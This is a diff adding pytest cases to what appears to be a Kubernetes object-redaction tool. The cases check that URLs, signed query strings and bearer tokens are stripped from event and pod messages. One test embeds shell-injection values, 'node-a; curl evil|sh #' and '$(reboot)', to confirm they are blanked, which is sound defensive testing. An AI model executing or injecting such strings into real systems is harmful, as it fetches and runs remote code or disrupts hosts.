@@ -157,6 +157,77 @@ def test_a_nodes_annotations_keep_no_secret(value: str) -> None:
         json.loads(kept["annotations"]["k3s.io/node-args"])
 
 
+SERVER, BUCKET = "https://api.prod.example:6443", "https://bucket.example/layer"
+#: Where an object holds a sentence of others: a resource, and the object with ``{}`` in its place.
+SENTENCES: list[tuple[str, dict[str, Any]]] = [
+    ("events", {"metadata": {"name": "e"}, "message": "{}"}),
+    ("events", {"metadata": {"name": "e"}, "note": "{}"}),
+    ("pods", {"metadata": META, "status": {"message": "{}"}}),
+    ("pods", {"metadata": META, "status": {"conditions": [{"type": "Ready", "message": "{}"}]}}),
+    (
+        "pods",
+        {
+            "metadata": {"name": "web", "namespace": "shop"},
+            "status": {
+                "containerStatuses": [
+                    {"state": {"waiting": {"reason": "ErrImagePull", "message": "{}"}}}
+                ]
+            },
+        },
+    ),
+    ("nodes", {"metadata": META, "status": {"conditions": [{"message": "{}"}]}}),
+    ("deployments", {"metadata": META, "status": {"conditions": [{"message": "{}"}]}}),
+]
+
+
+@pytest.mark.parametrize(("resource", "raw"), SENTENCES)
+@pytest.mark.parametrize(
+    ("said", "kept"),
+    [
+        (
+            f'plugin type="calico" failed (add): Get "{SERVER}/apis?timeout=10s": dial tcp '
+            "192.0.2.7:6443: i/o timeout",
+            'plugin type="calico" failed (add): Get "…": dial tcp 192.0.2.7:6443: i/o timeout',
+        ),
+        (f"Get {SERVER}/version: EOF", "Get … EOF"),
+        (
+            f'failed to do request: Head "{BUCKET}?X-Sign=a,b&key=hunter2": 403 Forbidden',
+            'failed to do request: Head "…": 403 Forbidden',
+        ),
+        ('sent "Authorization: Bearer hunter2": got 401', 'sent "Authorization: …": got 401'),
+        (
+            "dial unix:///run/multus/multus.sock: no such file",
+            "dial unix:///run/multus/multus.sock: no such file",
+        ),
+    ],
+    ids=["quoted", "bare", "signed", "header", "socket"],
+)
+def test_no_sentence_keeps_a_url_or_a_login(
+    resource: str, raw: dict[str, Any], said: str, kept: str
+) -> None:
+    text = json.dumps(raw)
+    assert pruned(resource, _saying(text, said)) == pruned(resource, _saying(text, kept))
+    assert json.dumps(kept) in json.dumps(pruned(resource, _saying(text, said)))
+
+
+def _saying(text: str, said: str) -> dict[str, Any]:
+    found: dict[str, Any] = json.loads(text.replace('"{}"', json.dumps(said)))
+    return found
+
+
+def test_an_event_names_no_host_that_a_shell_would_obey() -> None:
+    raw = {
+        "metadata": {"name": "e", "namespace": "shop"},
+        "source": {"host": "node-a; curl evil|sh #"},
+        "involvedObject": {"kind": "Node", "name": "$(reboot)"},
+        "reportingInstance": "node-a",
+    }
+    kept = pruned("events", raw)
+    assert kept["source"] == {"host": ""}
+    assert kept["involvedObject"] == {"kind": "Node", "name": ""}
+    assert kept["reportingInstance"] == "node-a"
+
+
 def test_configmaps_keep_network_settings_only() -> None:
     raw = {
         "metadata": {"name": "kube-proxy"},
